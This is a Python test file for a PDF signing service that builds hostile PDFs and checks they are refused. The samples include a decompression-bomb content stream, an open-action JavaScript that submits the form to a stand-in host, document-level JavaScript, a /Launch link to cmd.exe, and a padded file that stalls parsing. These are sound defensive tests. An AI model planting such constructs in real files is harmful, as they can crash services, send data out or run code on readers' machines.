"""Hostile PDFs a drafter can upload: a small file whose page content decompresses to a lot is refused before it is
parsed (it once took the signing service to 23 GB and the out-of-memory killer)."""

import io
import zlib

import pikepdf
import pytest

from vanthu_core.errors import InvalidArgument
from vanthu_signing import pdfdoc, placeholders
from vanthu_signing import signer as sg

pytestmark = pytest.mark.unit


def content_bomb(pdf: bytes, decompressed: int) -> bytes:
    """``pdf`` with a second content stream on page 1: ``q Q`` repeated to ``decompressed`` bytes, Flate-compressed
    (about a thousandth of that on disk)."""
    with pikepdf.open(io.BytesIO(pdf)) as doc:
        page = doc.pages[0].obj
        bomb = pikepdf.Stream(doc, zlib.compress(b"q Q\n" * (decompressed // 4), 9))
        bomb.Filter = pikepdf.Name.FlateDecode
        existing = page.Contents
        page.Contents = pikepdf.Array([*(existing if isinstance(existing, pikepdf.Array) else [existing]), bomb])
        out = io.BytesIO()
        doc.save(out)
    return out.getvalue()


def test_a_page_whose_content_decompresses_past_the_limit_is_refused_before_it_is_parsed(
        env, make_pdf, signature_png) -> None:  # type: ignore[no-untyped-def]
    bomb = content_bomb(make_pdf(), 3 * placeholders.MAX_CONTENT_BYTES)
    assert len(bomb) < placeholders.MAX_CONTENT_BYTES // 50
    with pytest.raises(InvalidArgument) as error:
        sg.sign_personal(bomb, env.personal, signature_png, env.tsa)
    assert error.value.field == "source" and "MiB sau khi giải nén" in error.value.reason


def test_the_measure_stops_at_the_limit_and_ordinary_pages_pass(make_pdf) -> None:  # type: ignore[no-untyped-def]
    with pikepdf.open(io.BytesIO(content_bomb(make_pdf(), 4 * 1024 * 1024))) as doc:
        streams = list(doc.pages[0].obj.Contents)
        assert placeholders.bounded_length(streams[-1], 1000) == 1001  # stopped, not decompressed
        assert placeholders.bounded_length(streams[-1], 8 * 1024 * 1024) == 4 * 1024 * 1024
        placeholders.refuse_oversized(streams, "page 1")  # 4 MiB: an unusual page, still accepted


def with_actions(pdf: bytes, *, open_js: bool = False, names_js: bool = False, launch_link: bool = False) -> bytes:
    with pikepdf.open(io.BytesIO(pdf)) as doc:
        if open_js:
            doc.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript,
                                                     JS=pikepdf.String("this.submitForm('http://x.example/')"))
        if names_js:
            script = doc.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)")))
            doc.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(
                Names=pikepdf.Array([pikepdf.String("a"), script])))
        if launch_link:
            link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link,
                                      Rect=pikepdf.Array([10, 10, 100, 30]),
                                      A=pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe")))
            doc.pages[0].obj.Annots = pikepdf.Array([doc.make_indirect(link)])
        out = io.BytesIO()
        doc.save(out)
    return out.getvalue()


@pytest.mark.parametrize(("kind", "said"), [({"open_js": True}, "hành động khi mở tệp (/JavaScript)"),
                                            ({"names_js": True}, "mã JavaScript cấp văn bản"),
                                            ({"launch_link": True}, "liên kết hoặc trường ở trang 1 (/Launch)")])
def test_a_pdf_that_runs_code_is_not_signed(make_pdf, kind: dict[str, bool], said: str) -> None:  # type: ignore[no-untyped-def]
    hostile = with_actions(make_pdf(), **kind)
    with pytest.raises(InvalidArgument) as error:
        pdfdoc.refuse_active_content(hostile)
    assert error.value.field == "source" and said in error.value.reason
    pdfdoc.refuse_active_content(make_pdf())  # an ordinary document passes


def test_a_file_without_startxref_near_its_end_is_refused_before_it_is_parsed(
        make_pdf, monkeypatch: pytest.MonkeyPatch) -> None:
    """The attacker's "PDF": a header, megabytes of filler and %%EOF. A reader would search the whole file backwards
    for startxref (46 s for 45 MiB); ISO 32000-1 §7.5.5 puts it just before %%EOF, so only the end is looked at."""
    def no_parsing(data: bytes) -> None:
        raise AssertionError("parsed")

    monkeypatch.setattr(pdfdoc, "_reader", no_parsing)
    monkeypatch.setattr(pdfdoc, "_repaired", no_parsing)
    hostile = b"%PDF-1.4\n" + b"A" * (5 * 1024 * 1024) + b"\n%%EOF"
    with pytest.raises(InvalidArgument) as error:
        pdfdoc.read_pdf(hostile, "source")
    assert error.value.field == "source" and "startxref" in error.value.reason
    # startxref far from the end (junk of more than the window appended) is refused the same way
    with pytest.raises(InvalidArgument):
        pdfdoc.read_pdf(make_pdf() + b"\0" * (pdfdoc.STARTXREF_WINDOW + 1), "source")


def test_a_real_pdf_with_a_scanners_trailing_junk_is_still_read(make_pdf) -> None:  # type: ignore[no-untyped-def]
    pdf = make_pdf() + b"\r\n\0\0 trailing bytes a scanner left \n" * 20
    assert pdfdoc.page_count(pdfdoc.read_pdf(pdf)) == 1
